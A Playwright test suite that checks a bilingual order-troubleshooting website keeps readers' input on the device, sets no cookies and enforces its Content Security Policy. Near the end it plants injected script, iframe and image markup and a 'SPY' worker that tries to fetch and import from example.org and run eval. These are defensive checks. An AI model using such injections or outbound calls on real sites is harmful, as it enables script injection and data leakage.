"""Nothing that the reader says leaves the device: every request of page and worker is watched."""

import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import unquote_plus, urlsplit

import pytest
from browser import LANGUAGES, Reader, Readers
from playwright.sync_api import Frame, Request, Route, expect

from hooks.serve import site_server

pytestmark = pytest.mark.browser


def watched(reader: Reader) -> list[Request]:
    """Every request from here on, of the page and of its worker."""
    requests: list[Request] = []

    def note(request: Request) -> None:
        requests.append(request)

    reader.page.context.on("request", note)
    return requests


@pytest.mark.parametrize("lang", LANGUAGES)
def test_whole_interview_asks_this_site_alone_and_sets_no_cookie(
    readers: Readers, lang: str
) -> None:
    reader = readers.new(lang)
    requests = watched(reader)
    reader.page.goto(reader.home)
    reader.start()
    result = reader.walk({"closed-when": "other-time"}, Reader.answer)
    # The worker starts from what the page itself holds, whose address names this site again.
    addresses = [request.url.removeprefix("blob:") for request in requests]

    assert any(".wasm" in address for address in addresses), "requests of the worker are not seen"
    assert {f"{urlsplit(url).scheme}://{urlsplit(url).netloc}/" for url in addresses} == {
        reader.site
    }
    assert {request.method for request in requests} == {"GET"}
    assert [request.url for request in requests if request.post_data] == []
    assert [url for url in addresses if result["fragment"] in url.partition("#")[0]] == []
    assert reader.page.context.cookies() == []
    assert reader.page.evaluate("document.cookie") == ""


PASTED = """Order ID: 8190001234567890
Status: Closed
Paid 3 Nov 2026
Buyer confirmed receipt on 20 November 2026
Name: Budi Santoso, phone 0812 3456 7890, budi.santoso@example.com
Address: Jalan Mawar 5, Bandung 40115
"""
PERSONAL = ("Budi", "Santoso", "0812", "7890", "example.com", "Mawar", "Bandung", "40115")
READ = "button-pressed=confirm-receipt&confirmed-on=2026-11-20&paid-on=2026-11-03"

KEPT = """async () => JSON.stringify([
  {...localStorage}, {...sessionStorage}, history.state, document.cookie, name,
  await indexedDB.databases(), await caches.keys(),
])"""
"""All that a page can leave behind in the browser."""

SHOWN = """() => [document.documentElement.outerHTML,
  ...[...document.querySelectorAll("input, textarea")].map(field => field.value)].join()"""


def visited(reader: Reader) -> list[str]:
    """Every address from here on, of new pages and of steps within a page."""
    addresses: list[str] = []

    def note(frame: Frame) -> None:
        addresses.append(frame.url)

    reader.page.on("framenavigated", note)
    return addresses


def test_pasted_text_stays_in_the_page_and_names_are_gone_from_it(readers: Readers) -> None:
    reader = readers.new("en")
    reader.start()
    requests, addresses = watched(reader), visited(reader)
    reader.unfold(reader.part("#oc-pasted")).fill(PASTED)
    reader.press("read")
    reply = reader.expected("", "read", pasted=PASTED)
    reader.sees(reply)
    shown = reader.page.evaluate(SHOWN)
    reader.press("show")
    reader.sees_step(reply["fragment"])

    assert set(READ.split("&")) <= set(reply["fragment"].split("&"))
    assert {url.partition("#")[2] for url in addresses} == {reply["fragment"]}
    assert [request.url for request in requests if not request.url.startswith(reader.site)] == []
    assert [request.url for request in requests if request.post_data] == []
    left = (reader.page.evaluate(KEPT), reader.page.evaluate(SHOWN), shown)
    everything = "".join((*left, *addresses, *(request.url for request in requests)))
    assert [word for word in PERSONAL if word in everything] == []


def test_going_back_does_not_bring_the_pasted_text_back(readers: Readers) -> None:
    reader = readers.new("en")
    reader.start()
    reader.unfold(reader.part("#oc-pasted")).fill(PASTED)
    reader.press("read")
    expect(reader.part(".oc-reading")).to_be_visible()
    reader.page.go_back()

    reader.sees_step("")
    expect(reader.part("#oc-pasted")).to_have_value("")


def test_engine_is_loaded_once(readers: Readers) -> None:
    reader = readers.new("id")
    requests = watched(reader)
    reader.open("payment=paid")
    reader.sees_step("payment=paid")
    reader.answer("unsure")
    names = [urlsplit(request.url).path.rpartition("/")[2] for request in requests]

    assert [name.endswith(".wasm") for name in names].count(True) == 1
    assert sorted(name.partition(".")[0] for name in names if name.endswith(".zip")) == [
        "decision_tree",
        "python_stdlib",
    ]


def test_without_scripts_what_is_chosen_is_not_sent(readers: Readers) -> None:
    reader = readers.new("id", java_script_enabled=False)
    reader.page.goto(reader.address(""))
    reader.page.wait_for_load_state("networkidle")
    requests = watched(reader)
    choices = reader.page.locator(".oc-tree > article:visible .oc-choices a")
    while choices.count():
        choices.first.click()

    expect(reader.page.locator(".oc-tree > article:visible .oc-first-step")).to_be_visible()
    assert reader.page.url.partition("#")[0] == reader.address("")
    # Chromium may ask for the icon anew at each place in a page.
    icon = f"{reader.site}assets/images/logo.svg"
    assert [request.url for request in requests if request.url != icon] == []


ANSWERED = {"closed-when": "other-time", "last-tracking": "held-by-customs", "payment": "paid"}
QUERY = {"id": "uang belum kembali", "en": "money not back yet"}
VIOLATIONS = """addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
  violated(`${violatedDirective} ${blockedURI}`))"""


def violations(reader: Reader) -> list[str]:
    """Whatever the policy of a page refuses from here on; a worker complains in the console."""
    found: list[str] = []

    def note(violation: str) -> None:
        found.append(violation)

    reader.page.context.expose_function("violated", note)
    reader.page.context.add_init_script(VIOLATIONS)
    return found


def journey(reader: Reader) -> list[str]:
    """Use everything that the site has, in both languages; return all that was told it."""
    query = QUERY[reader.lang]
    for place in ("", "causes/", "guides/sources/", "how-it-works/", "faq/", "about/"):
        reader.page.goto(reader.home + place)
    reader.page.locator(".oc-search-open").click()
    reader.page.locator("#oc-search-query").fill(query)
    reader.page.locator(".oc-search-results a").first.click()
    reader.start()
    reader.unfold(reader.part("#oc-pasted")).fill(PASTED)
    reader.press("read")
    reader.sees(reader.expected("", "read", pasted=PASTED))
    reader.press("show")
    fragment = reader.walk(ANSWERED, Reader.answer)["fragment"]
    return [query, *PERSONAL, *fragment.split("&"), *keep_the_case(reader, fragment)]


def keep_the_case(reader: Reader, fragment: str) -> list[str]:
    """Take the calendar and the code, tell of one more order, open the code in each language."""
    with reader.page.expect_download():
        reader.unfold(reader.part("a[download]").first).click()
    code = reader.unfold(reader.part("#oc-code")).inner_text()
    reader.press("add")
    reader.sees(reader.expected(fragment, "add"))
    both = reader.walk(ANSWERED, Reader.answer)["fragment"]
    reader.page.locator(".md-select > button").click()
    other = next(lang for lang in LANGUAGES if lang != reader.lang)
    reader.page.locator(f".md-select a[hreflang={other}]").click()
    expect(reader.part(".oc-orders tbody tr")).to_have_count(2)
    reader.page.goto(reader.home)
    reader.start()
    typed = reader.unfold(reader.part("#oc-typed-code"))
    typed.fill(code)
    typed.press("Enter")
    reader.sees_step(fragment)
    return [code, both]


def sent(request: Request) -> str:
    """All that a request tells the server."""
    headers = request.all_headers().items()
    told = [f"{name}: {value}" for name, value in headers]
    return unquote_plus("\n".join((request.url.partition("#")[0], *told, request.post_data or "")))


@pytest.mark.parametrize("lang", LANGUAGES)
def test_nothing_that_a_reader_says_is_sent_and_no_policy_is_broken(
    readers: Readers, lang: str
) -> None:
    reader = readers.new(lang)
    broken, requests = violations(reader), watched(reader)
    said = journey(reader)
    everything = "\n".join(sent(request) for request in requests)

    assert len(said) > 10
    assert any(".wasm" in request.url for request in requests)
    assert broken == readers.complaints == []
    assert [word for word in said if word.lower() in everything.lower()] == []
    assert [
        r.url for r in requests if not r.url.startswith((reader.site, f"blob:{reader.site}"))
    ] == []
    assert {request.method for request in requests} == {"GET"}
    headers = [request.all_headers() for request in requests]
    assert {one.get("referer", "") + one.get("cookie", "") for one in headers} == {""}
    assert reader.page.context.cookies() == []


def test_no_page_uses_a_cookie_or_stores_a_look_that_nobody_chose(readers: Readers) -> None:
    reader = readers.new("en")
    for place in ("", "causes/", "guides/sources/", "troubleshooter/"):
        reader.page.goto(reader.home + place)
        reader.page.wait_for_load_state("networkidle")
        assert reader.page.evaluate("({...localStorage, ...sessionStorage})") == {}
        assert reader.page.context.cookies() == []


def test_a_look_that_a_reader_chose_is_kept(readers: Readers) -> None:
    reader = readers.new("en")
    reader.page.goto(reader.home)
    reader.page.locator("label[for=__palette_1]").click()
    assert list(reader.page.evaluate("({...localStorage})")) == ["/.__palette"]
    reader.page.goto(f"{reader.site}causes/")

    expect(reader.page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")


def test_where_the_browser_refuses_to_store_the_pages_work(readers: Readers) -> None:
    reader = readers.new("en")
    refuse = "() => { throw new DOMException('refused', 'SecurityError'); }"
    reader.page.add_init_script(f"Object.defineProperty(window, 'localStorage', {{get: {refuse}}})")
    reader.page.goto(reader.home)
    reader.page.locator("label[for=__palette_1]").click()

    expect(reader.page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")


def test_a_source_does_not_learn_which_page_led_to_it(readers: Readers, tmp_path: Path) -> None:
    reader = readers.new("en")
    page = "<!doctype html><title>Elsewhere</title><link rel=icon href='data:,'>"
    (tmp_path / "index.html").write_text(page, "utf-8")
    with serving(tmp_path) as elsewhere:
        reader.page.goto(f"{reader.home}guides/sources/")
        links = reader.page.locator("article a[href^=https]")
        assert {link.get_attribute("rel") for link in links.all()} == {"noreferrer"}
        links.first.evaluate("(link, url) => { link.href = url; link.rel = '' }", elsewhere)
        with reader.page.expect_request(elsewhere) as asked:
            reader.page.locator(f"article a[href='{elsewhere}']").click()
        expect(reader.page).to_have_title("Elsewhere")

    assert "referer" not in asked.value.all_headers()


@contextmanager
def serving(folder: Path) -> Iterator[str]:
    with site_server(folder, 0) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


PLANTED = {
    "img-src https://example.org/seen.png": "<img src='https://example.org/seen.png'>",
    "script-src-elem inline": "<script>document.title = 'planted'</script>",
    "style-src-attr inline": "<p style='color: red'>planted</p>",
    "script-src-elem https://example.org/one.js": "<script src='https://example.org/one.js'></script>",
    "frame-src https://example.org": "<iframe src='https://example.org/'></iframe>",
}


@pytest.mark.parametrize(("violation", "markup"), PLANTED.items())
def test_what_is_planted_in_a_page_is_refused_and_noticed(
    readers: Readers, violation: str, markup: str
) -> None:
    reader = readers.new("en")
    broken, requests = violations(reader), watched(reader)
    reader.page.route(reader.home, changed(lambda text: text.replace("<h1", f"{markup}<h1", 1)))
    reader.page.goto(reader.home)
    reader.page.wait_for_load_state("networkidle")

    assert violation in broken
    assert readers.complaints
    assert [r.url for r in requests if "example.org" in r.url and r.failure is None] == []
    readers.complaints.clear()


def changed(change: Callable[[str], str], *, without: str = "") -> Callable[[Route], None]:
    """Answer as the site does, with a change in the text, or without a header."""

    def answer(route: Route) -> None:
        response = route.fetch()
        headers = {name: text for name, text in response.headers.items() if name != without}
        route.fulfill(status=response.status, headers=headers, body=change(response.text()))

    return answer


SPY = """
const told = [];
for (const way of [() => fetch("https://example.org/told"), () => eval("1"), () => Function("1")(),
                   () => import("https://example.org/told.mjs")]) {
  try { await way(); told.push("allowed"); } catch { told.push("refused"); }
}
self.postMessage({ kind: "failed", reason: told.join() });
"""
"""A worker that tries to reach another host and to run text as a program."""

REFUSED = ",".join(["refused"] * 4)


def test_a_worker_that_speaks_to_another_host_is_refused(readers: Readers) -> None:
    reader = readers.new("en")
    requests = watched(reader)
    reader.page.context.route("**/worker*.mjs", changed(lambda _: SPY))
    reader.open()
    reader.hears("failed")

    assert f"order-troubleshooter: {REFUSED}" in readers.complaints
    assert [r.url for r in requests if "example.org" in r.url and r.failure is None] == []
    readers.complaints.clear()


FROM_BLOB = """program => new Promise(done => {
  const worker = new Worker(
    URL.createObjectURL(new Blob([program], { type: "text/javascript" })), { type: "module" });
  worker.onmessage = ({ data }) => done(data.reason);
})"""


def test_a_host_without_headers_leaves_the_worker_under_the_policy_of_the_page(
    readers: Readers,
) -> None:
    """A worker from a blob of the page is under its policy; one with an address is under none."""
    reader = readers.new("en")
    bare = changed(lambda text: text, without="content-security-policy")
    reader.page.context.route("**/troubleshooter/", bare)
    reader.start()

    assert reader.page.evaluate(FROM_BLOB, SPY) == REFUSED
    readers.complaints.clear()
